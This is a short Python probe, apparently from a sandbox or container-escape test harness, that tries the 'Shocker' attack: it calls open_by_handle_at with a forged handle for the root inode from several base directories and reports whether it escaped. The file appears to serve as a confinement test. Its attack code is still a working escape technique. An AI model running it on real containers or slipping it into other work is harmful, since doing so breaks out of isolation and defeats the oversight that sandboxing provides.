"""Shocker: open_by_handle_at on the root inode."""

META = {"group": "files", "seen": "read:/"}


def attack():
    import struct
    for base in ("/", "/usr", "/etc", "/tmp"):
        try: m = os.open(base, os.O_RDONLY)
        except OSError: continue
        h = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("Q", 2), 16)
        r, e = sysc("open_by_handle_at", m, h, os.O_RDONLY)
        if r >= 0: return "ESCAPED: open_by_handle_at gave fd %d" % r
    return f"contained: errno {e}"
